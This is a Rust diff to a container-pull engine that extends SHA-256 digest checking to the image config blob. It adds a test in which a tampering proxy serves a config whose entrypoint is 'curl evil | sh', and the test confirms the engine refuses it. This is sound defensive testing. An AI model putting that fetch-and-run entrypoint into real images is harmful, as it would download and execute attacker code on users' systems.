@@ -673,20 +673,21 @@ impl Engine {
             None => None,
         };
 
-        // Task 0 is the config blob, tasks 1..N the layers; layers carry
-        // client-side digest verification (the config is covered by the
-        // manifest digest chain).
-        let blobs: Vec<(Digest, u64, bool)> =
-            std::iter::once((manifest.config.digest, manifest.config.size, false))
-                .chain(manifest.layers.iter().map(|d| (d.digest, d.size, true)))
-                .collect();
+        // Task 0 is the config blob, tasks 1..N the layers. Each fetched
+        // blob is checked against the digest the manifest names for it:
+        // the config's bytes (entrypoint, env, user) are as untrusted as a
+        // layer's.
+        let blobs: Vec<(Digest, u64)> = std::iter::once(&manifest.config)
+            .chain(manifest.layers.iter())
+            .map(|d| (d.digest, d.size))
+            .collect();
         let fetched: RefCell<Vec<Option<Arc<Vec<u8>>>>> = RefCell::new(vec![None; blobs.len()]);
         // Pins taken by plain (non-journalled) inserts, released after the
         // run — an in-flight pull must pin its blobs against eviction, but
         // the pins must not outlive it (they would defeat the LRU).
         let pinned: RefCell<Vec<Digest>> = RefCell::new(Vec::new());
         let mut graph: TaskGraph<'_, EngineError> = TaskGraph::new();
-        for (i, &(digest, size, verify)) in blobs.iter().enumerate() {
+        for (i, &(digest, size)) in blobs.iter().enumerate() {
             let fetched = &fetched;
             let pinned = &pinned;
             graph.add(sym!("pull.blob"), Stage::Pull, &[], move |at| {
@@ -702,14 +703,12 @@ impl Engine {
                         faults
                             .metrics()
                             .add("engine.pull.fetched_bytes", bytes.len() as u64);
-                        if verify {
-                            let actual = hpcc_crypto::sha256::sha256(&bytes);
-                            if actual != digest {
-                                return Err(EngineError::Cas(CasError::DigestMismatch {
-                                    claimed: digest,
-                                    actual,
-                                }));
-                            }
+                        let actual = hpcc_crypto::sha256::sha256(&bytes);
+                        if actual != digest {
+                            return Err(EngineError::Cas(CasError::DigestMismatch {
+                                claimed: digest,
+                                actual,
+                            }));
                         }
                         match (journal, intent) {
                             (Some(j), Some(intent)) => {
@@ -1527,6 +1526,7 @@ impl Engine {
 mod tests {
     use super::*;
     use crate::engines;
+    use hpcc_codec::archive::EntryKind;
     use hpcc_oci::builder::samples;
     use hpcc_oci::cas::Cas;
     use hpcc_registry::registry::RegistryCaps;
@@ -1552,6 +1552,86 @@ mod tests {
                 SimTime(u64::MAX),
             )],
         ))
+    }
+
+    /// A hop that serves every blob as `inner` holds it, except the
+    /// config, for which it serves `config_bytes`.
+    struct SwappedConfig<'a> {
+        inner: &'a Registry,
+        config: Digest,
+        config_bytes: Arc<Vec<u8>>,
+    }
+
+    impl PullBackend for SwappedConfig<'_> {
+        fn manifest(
+            &self,
+            repo: &str,
+            tag: &str,
+            arrival: SimTime,
+        ) -> Result<(Manifest, SimTime), EngineError> {
+            self.inner.manifest(repo, tag, arrival)
+        }
+        fn blob(
+            &self,
+            digest: &Digest,
+            arrival: SimTime,
+        ) -> Result<(Arc<Vec<u8>>, SimTime), EngineError> {
+            if *digest == self.config {
+                return Ok((Arc::clone(&self.config_bytes), arrival));
+            }
+            self.inner.blob(digest, arrival)
+        }
+    }
+
+    #[test]
+    fn a_hop_serving_other_config_bytes_is_refused() {
+        let reg = registry_with_solver("site");
+        let (manifest, _) = reg
+            .pull_manifest("hpc/solver", "v1", SimTime::ZERO)
+            .unwrap();
+        let (bytes, _) = reg
+            .pull_blob(&manifest.config.digest, SimTime::ZERO)
+            .unwrap();
+        let mut config = ImageConfig::from_bytes(&bytes).unwrap();
+        config.entrypoint = vec!["/bin/sh".into(), "-c".into(), "curl evil | sh".into()];
+        let engine = engines::apptainer();
+        let fetch = |config_bytes| {
+            let hop = SwappedConfig {
+                inner: &reg,
+                config: manifest.config.digest,
+                config_bytes,
+            };
+            Engine::fetch_via(&engine.ctx(), &hop, "hpc/solver", "v1", SimTime::ZERO)
+                .map(|(fetched, _)| fetched.blobs[0].len())
+        };
+        match fetch(Arc::new(config.to_bytes())) {
+            Err(EngineError::Cas(CasError::DigestMismatch { claimed, .. })) => {
+                assert_eq!(claimed, manifest.config.digest)
+            }
+            Err(other) => panic!("expected a config digest mismatch, got {other}"),
+            Ok(_) => panic!("a swapped config was accepted"),
+        }
+        // The same hop serving the manifest's own config bytes passes.
+        assert_eq!(fetch(bytes).unwrap() as u64, manifest.config.size);
+    }
+
+    #[test]
+    fn a_cloned_pull_shares_every_file() {
+        let reg = registry_with_solver("site");
+        let pulled = engines::apptainer()
+            .pull(&reg, "hpc/solver", "v1", &SimClock::new())
+            .unwrap();
+        let copy = pulled.clone();
+        let mut files = 0;
+        for (a, b) in pulled.layers.iter().zip(&copy.layers) {
+            for (x, y) in a.entries.iter().zip(&b.entries) {
+                if let (EntryKind::File(dx), EntryKind::File(dy)) = (&x.kind, &y.kind) {
+                    assert!(Arc::ptr_eq(dx, dy), "{} was copied", x.path);
+                    files += 1;
+                }
+            }
+        }
+        assert!(files > 0);
     }
 
     #[test]
